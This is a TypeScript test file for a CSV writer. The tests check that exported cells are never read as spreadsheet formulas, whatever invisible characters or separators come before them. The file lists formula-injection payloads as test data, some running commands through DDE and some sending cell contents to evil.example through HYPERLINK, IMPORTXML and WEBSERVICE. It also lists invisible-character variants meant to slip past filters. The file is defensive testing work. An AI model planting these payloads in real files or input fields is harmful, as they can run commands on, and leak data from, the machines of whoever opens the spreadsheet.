import { describe, expect, test } from "vitest";
import { csvLine } from "./csv.ts";

/** What somebody may call themselves in the hope that another one opens it in a spreadsheet. */
const formulas = [
  "=1+1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "﹦1",
  "﹢1",
  "﹣1",
  "﹫SUM(1)",
  "−1+1",
];
/** What stands in front of it without making a difference to some program. */
const unseen = {
  nothing: "",
  "a blank": " ",
  "a no-break space": "\u00a0",
  "a wide space": "\u3000",
  "a thin space": "\u2009",
  "a tab": "\t",
  "a carriage return": "\r",
  "a line feed": "\n",
  "a line of Windows": "\r\n",
  "a vertical tab": "\v",
  "a line separator": "\u2028",
  "a next line": "\u0085",
  "a zero-width space": "\u200b",
  "a zero-width joiner": "\u200d",
  "a byte order mark": "\ufeff",
  "a soft hyphen": "\u00ad",
  "a right-to-left override": "\u202e",
  "a variation selector": "\ufe0f",
  "a Hangul filler": "\u3164",
  "a zero byte": "\0",
  "a quote": '"',
  "an empty quotation": '""',
  "many of them": ' \t"\u200b\u00a0"\r\n\ufeff',
};
/** And what a program may take for the end of the cell before. */
const borders = {
  "the start": "",
  "a comma": "x,",
  "a semicolon": "x;",
  "a tab in it": "x\t",
  "a bar": "x|",
  "a line feed in it": "x\n",
  "a carriage return in it": "x\r",
  "a quoted semicolon": '"x";',
  "two semicolons": "x;;",
  "a semicolon and a tab": "x;\t",
  "an open quotation": 'x;"',
};

const UNSEEN = /^["'\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*/u;
const SIGN = /^[=+\-@＝＋－＠﹦﹢﹣﹫−]/;

/** Cells as a program finds them that splits at this sign and knows no quotes at all. */
const rawCells = (file: string, separator: string) =>
  file.split(/[\r\n\v\u0085\u2028]/).flatMap((line) => line.split(separator));

/** It runs, unless an apostrophe stands before the sign and everything unseen. */
function isFormula(cell: string) {
  const [before = ""] = UNSEEN.exec(cell) ?? [];
  return !before.includes("'") && SIGN.test(cell.slice(before.length));
}

describe("S9 no program finds a formula", () => {
  const cases = Object.entries(borders).flatMap(([border, start]) =>
    Object.entries(unseen).map(([name, blank]) => [border, name, start + blank] as const),
  );
  test.each(cases)("behind %s and %s", (_border, _name, before) => {
    for (const formula of formulas) {
      // In the first, a middle and the last place, with a neighbour that begins a cell of its own.
      const text = `${before}${formula};y`;
      const file = csvLine([text, "a", text, 1, text]) + csvLine([text]);
      for (const separator of [",", ";", "\t", "|"])
        expect(
          rawCells(file, separator).filter((cell) => isFormula(cell)),
          JSON.stringify([separator, text]),
        ).toEqual([]);
    }
  });
});

test("S9 a login whose ID is a formula behind a semicolon stays one cell of text", () => {
  expect(csvLine(["x;=cmd|'/C calc'!A0"])).toBe(`"x;'=cmd|'/C calc'!A0"\r\n`);
});

test.each([
  ["plain", "plain"],
  ["Paris, France", '"Paris, France"'],
  ["a;b", '"a;b"'],
  ["a\tb", '"a\tb"'],
  ["a|b", '"a|b"'],
  ['the "big" one', '"the ""big"" one"'],
  ["two\nlines", '"two\nlines"'],
  ["two\r\nlines", '"two\r\nlines"'],
  ["Jean-Luc", "Jean-Luc"],
  ["a = b", "a = b"],
  ["a - b; c", '"a - b; c"'],
  ["ada@example.com", "ada@example.com"],
  ["2026-11-16T04:43:00.735Z", "2026-11-16T04:43:00.735Z"],
  ['{"is_active":true}', '"{""is_active"":true}"'],
  ["\tx", `"'\tx"`],
  ["\rx", `"'\rx"`],
  ["+49 30 1", "'+49 30 1"],
  ["-5", "'-5"],
  ["", ""],
])("%j is written as %j", (text, written) => {
  expect(csvLine([text])).toBe(`${written}\r\n`);
});

test("numbers of our own stay numbers, also below zero", () => {
  expect(csvLine([-5, 10, 0.5])).toBe("-5,10,0.5\r\n");
});

test("S9 a text made to be slow is written as well", () => {
  for (const part of ["\t ", " ", ";", ';"\ufeff', " \ufeff", "\r\n", "= "])
    expect(csvLine([part.repeat(300_000)]).length).toBeGreaterThan(300_000);
});
